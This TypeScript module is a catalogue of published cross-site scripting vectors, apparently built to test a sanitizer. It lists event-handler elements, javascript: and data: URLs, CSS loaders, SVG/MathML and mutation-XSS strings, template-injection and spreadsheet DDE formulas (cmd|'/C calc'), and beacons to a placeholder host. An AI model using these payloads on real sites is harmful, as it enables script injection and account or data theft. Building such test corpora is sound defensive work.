/**
 * The words and shapes that published vectors of cross-site scripting are made of (cheat sheets, reports of mutation XSS,
 * of template injection and of filters got round). `xss-payloads.ts` combines them. Every script calls `ran(id)`.
 */

/** A host that nobody has; a request to it means that a payload loaded something. */
export const STRANGER = "stranger.invalid";

/** Ways to write the call, none of which navigates the page that it stands on. */
export const SCRIPTS: readonly ((id: number) => string)[] = [
  (id) => `ran(${id})`,
  (id) => `top.ran(${id})`,
  (id) => `window['r'+'an'](${id})`,
  (id) => `self[/ran/.source](${id})`,
  (id) => `[${id}].map(ran)`,
  (id) => `ran\`${id}\``,
  (id) => `\\u0072an(${id})`,
  (id) => `eval('ran(${id})')`,
  (id) => `Function('ran(${id})')()`,
  (id) => `setTimeout('ran(${id})')`,
  (id) => `eval(atob('${btoa(`ran(${id})`)}'))`,
  (id) => `eval(String.fromCharCode(${[...`ran(${id})`].map((letter) => letter.charCodeAt(0)).join()}))`,
  (id) => `globalThis?.ran?.(${id})`,
  (id) => `import('data:text/javascript,ran(${id})')`,
  (id) => `fetch('//${STRANGER}/${id}'),ran(${id})`,
  (id) => `new Image().src='//${STRANGER}/${id}',ran(${id})`,
];

/** Elements that call a handler by themselves. `%` stands for the script in an attribute's value. */
export const SELF_STARTING: readonly string[] = [
  '<img src=x onerror="%">', '<img src=x:x onerror="%">', "<image src=x onerror='%'>", '<img srcset=x onerror="%">', '<svg onload="%">', '<svg><g onload="%"></g></svg>',
  '<body onload="%">', '<body onpageshow="%">', '<iframe onload="%"></iframe>', '<iframe srcdoc="<script>parent.%</script>"></iframe>', '<object data=x onerror="%"></object>',
  '<embed src=x onerror="%">', '<video src=x onerror="%"></video>', '<video><source src=x onerror="%"></video>', '<audio src=x onerror="%"></audio>', '<input autofocus onfocus="%">',
  '<input type=image src=x onerror="%">', '<select autofocus onfocus="%"></select>', '<textarea autofocus onfocus="%"></textarea>', '<button autofocus onfocus="%">b</button>',
  '<details open ontoggle="%">d</details>', '<a autofocus href=x onfocus="%">a</a>', '<b tabindex=1 autofocus onfocus="%">b</b>', '<script>%</script>', '<script src="data:text/javascript,%"></script>',
  '<link rel=stylesheet href=x onerror="%">', '<marquee onstart="%">m</marquee>', '<style onload="%"></style>', '<track default src=x onerror="%">', '<picture><img src=x onerror="%"></picture>',
  '<xss style="animation:x 1s" onanimationstart="%"></xss><style>@keyframes x{}</style>', '<div contenteditable autofocus onfocus="%">d</div>', '<dialog open onfocusin="%"><input autofocus></dialog>',
  '<p hidden=until-found onbeforematch="%">p</p>', '<input onauxclick="%" oncut="%" onfocus="%" autofocus>', '<script type=module>%</script>', '<meta http-equiv=refresh content="9;url=javascript:%">',
];

/** Handlers that wait for a person; any that reaches the page is counted by its attribute. */
export const WAITING_EVENTS: readonly string[] = [
  "onclick", "ondblclick", "onmouseover", "onmouseenter", "onmousemove", "onpointerover", "onpointerdown", "onwheel", "onscroll", "onscrollend", "onkeydown", "onkeyup", "oncopy", "onpaste", "onbeforepaste",
  "ondrag", "ondragover", "ondrop", "oninput", "onchange", "onsubmit", "onreset", "oninvalid", "onselect", "oncontextmenu", "ontouchstart", "ontransitionend", "onblur", "onfocusout", "onresize", "onhashchange",
  "onmessage", "onbeforeinput", "onbeforetoggle", "oncontentvisibilityautostatechange", "onformdata", "onsecuritypolicyviolation", "onslotchange", "onunload", "onbeforeprint", "onafterprint",
];
export const ELEMENTS: readonly string[] = [
  "a", "abbr", "article", "audio", "b", "bdo", "blockquote", "body", "br", "button", "canvas", "center", "custom-tag", "div", "em", "fieldset", "font", "form", "h1", "hr", "i", "img", "input", "isindex", "keygen", "label", "li",
  "mark", "marquee", "menu", "meter", "noembed", "ol", "optgroup", "p", "plaintext", "pre", "s", "section", "select", "slot", "span", "strong", "summary", "table", "tbody", "td", "template", "th", "tr", "u", "ul", "video", "wbr", "xmp",
];

/** Text that leaves the place it stands in: an attribute, a comment, an element of raw text, a string of a script. */
export const ESCAPES: readonly string[] = [
  '">', "'>", "`>", '" ', "' ", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</xmp>", "</iframe>", "</option>", "</svg>", "</math>", "*/", '");', "');", "`);", "}}", "%>", '"}]}',
  "\\\">", "&quot;>", "&#34;>", "</p></div></body></html>", "<!--><",
];

/** Addresses; `%` stands for the script. */
export const ADDRESSES: readonly string[] = [
  "javascript:%", "JaVaScRiPt:%", "  javascript:%", "java\tscript:%", "java\nscript:%", "\u0001javascript:%", "javascript&colon;%", "&#106;avascript:%", "&#x6A;avascript&#x3A;%", "javascript&#58;%", "javascript:/*--></title>*/%", "javascript://%0a%",
  "javascript:void%", "data:text/html,<script>%</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=%>", "vbscript:%", "view-source:javascript:%", "blob:javascript:%", `//${STRANGER}/%`, `https://${STRANGER}/%`, `\\\\${STRANGER}\\%`,
  "feed:javascript:%", "jar:javascript:%!/", "livescript:%", "mocha:%", "javascript:\u2028%",
];
/** Places for an address; `@` stands for it. */
export const LINKS: readonly string[] = [
  '<a href="@">a</a>', '<a href="@" autofocus>a</a>', '<area href="@">', '<base href="@">', '<form action="@"><input type=submit></form>', '<button formaction="@">b</button>', '<iframe src="@"></iframe>', '<embed src="@">', '<object data="@"></object>', '<img src="@">',
  '<img srcset="@ 1x">', '<video poster="@"></video>', '<link rel=stylesheet href="@">', '<link rel=prefetch href="@">', '<link rel=dns-prefetch href="@">', '<svg><a xlink:href="@"><text>a</text></a></svg>', '<svg><use href="@"/></svg>', '<svg><image href="@"/></svg>',
  '<svg><script href="@"></script></svg>', '<math href="@">m</math>', '<math><maction actiontype=statusline xlink:href="@">m</maction></math>', '<body background="@">', '<table background="@"><td>t', '<input type=image src="@">', '<isindex action="@">', '<blockquote cite="@">b</blockquote>',
  '<a ping="@" href=x>a</a>', '<portal src="@"></portal>', '<meta http-equiv=refresh content="9;url=@">', "[a](@)", "![a](@)", "<@>", '<applet code="@">', '<frameset><frame src="@">',
];

/** Style that runs or loads; `%` stands for the script. */
export const STYLES: readonly string[] = [
  `<style>@import '//${STRANGER}/a.css';</style>`, `<style>*{background:url('//${STRANGER}/b')}</style>`, `<p style="background:url(//${STRANGER}/c)">p</p>`, '<p style="width:expression(%)">p</p>', '<p style="-moz-binding:url(x)" onclick="%">p</p>', `<p style="behavior:url(//${STRANGER}/d)">p</p>`,
  `<p style="list-style-image:url(//${STRANGER}/e)">p</p>`, '<p style="background:url(javascript:%)">p</p>', '<style>li{list-style-image:url("javascript:%")}</style>', `<p style="background:\\75 rl(//${STRANGER}/f)">p</p>`, '<div style="position:fixed;inset:0;z-index:99999" onclick="%">d</div>',
  `<style>@font-face{font-family:x;src:url(//${STRANGER}/g)}*{font-family:x}</style>`, '<p style="text-align: center;}</style><img src=x onerror=%>">p</p>', `<p style="text-align:center;background-image:image-set('//${STRANGER}/h' 1x)">p</p>`, '<style><!--</style><script>%//--></script>',
  `<style>input[value^="a"]{background:url(//${STRANGER}/i)}</style>`, '<p style="animation-name:x" onanimationstart="%">p</p><style>@keyframes x{}</style>',
];

/** Pictures of markup that may run on their own. */
export const DRAWINGS: readonly string[] = [
  "<svg><script>%</script></svg>", "<svg><script>&#114;an&#40;0&#41;;%</script></svg>", '<svg><animate onbegin="%" attributeName=x dur=1s></svg>', '<svg><set onbegin="%" attributeName=x></svg>', '<svg><animatetransform onbegin="%" attributeName=transform></svg>', '<svg><a><animate attributeName=href values="javascript:%"/><text>a</text></a></svg>',
  '<svg><foreignObject><body onload="%"></body></foreignObject></svg>', '<svg><image href=x onerror="%"></svg>', '<svg><desc><![CDATA[</desc><script>%</script>]]></svg>', '<svg><style><img src=x onerror="%"></style></svg>', '<svg><title><img src=x onerror="%"></title></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="%"/>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>%</handler></svg>', '<math><mtext><img src=x onerror="%"></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror="%"></annotation-xml></math>', '<math><mi//xlink:href="data:x,<script>%</script>">', '<math><style><img src=x onerror="%"></style></math>',
  '<?xml-stylesheet href="javascript:%"?>', '<!DOCTYPE x [<!ENTITY y "<script>%</script>">]>&y;', '<xml id=x><a><script>%</script></a></xml>', '<html xmlns:x><x:script xmlns:x="http://www.w3.org/1999/xhtml">%</x:script>',
];

/** Markup that is read in another way the second time. */
export const MUTATIONS: readonly string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="%"></style></mglyph></form>', '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>',
  '<svg></p><style><a id="</style><img src=x onerror=%>">', '<svg><p><style><a title="</style><img src=x onerror=%>">', '<template><s><template><s><img src=x onerror="%">@</s></template></s></template>', '<textarea><img title="</textarea><img src=x onerror=%>"></textarea>', '<title><a title="</title><img src=x onerror=%>">',
  '<xmp><p title="</xmp><img src=x onerror=%>"></xmp>', '<noembed><p title="</noembed><img src=x onerror=%>">', '<iframe><p title="</iframe><img src=x onerror=%>">', '<select><iframe></select><img src=x onerror="%">', '<select><style></select><img src=x onerror="%"></style>', '<table><a><img src=x onerror="%"></a><td>',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=%>">', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=%>">', '<listing>&lt;img src=x onerror=%&gt;</listing>', '<p id="&lt;img src=x onerror=%&gt;">p', '&lt;img src=x onerror=%&gt;', "&amp;lt;img src=x onerror=%&amp;gt;",
  '<!--<img src="--><img src=x onerror=%>">', "<![CDATA[<img src=x onerror=%>]]>", '<![if !x]><img src=x onerror="%"><![endif]>', '<a title="`"><img src=x onerror="%">`', '<b <script>%</script>0', '<img """><script>%</script>">', '<scr<script>ipt>%</scr</script>ipt>', '<scr\u0000ipt>%</script>', '<img src=x one\u0000rror="%">',
  '<plaintext><img src=x onerror="%">', '<p><span data-page="1&quot;><img src=x onerror=%>">p</span></p>', '<span data-page="1" style="text-align:center" onclick="%"></span>', '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=%>">',
];

/** Languages of templates, formulas and marked-up text. */
export const TEMPLATES: readonly string[] = [
  "{{constructor.constructor('%')()}}", "{{%}}", "${%}", "#{%}", "<%= % %>", "{%raw%}%{%endraw%}", "[[%]]", "{{{%}}}", "{{$on.constructor('%')()}}", "<div ng-app>{{constructor.constructor('%')()}}</div>", "<div v-html=\"'<img src=x onerror=%>'\"></div>", '<x-on:click="%">', '<p x-init="%">p</p>', "<div data-bind=\"click:function(){%}\">",
  "=HYPERLINK(\"javascript:%\")", `=IMPORTXML("//${STRANGER}","//a")`, "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "<button data-toggle=tooltip data-html=true title='<img src=x onerror=%>'>", "*{%}", "~~<img src=x onerror=%>~~", "```html\n<img src=x onerror=%>\n```", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=%>\"}}", "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=%>\"}}",
];
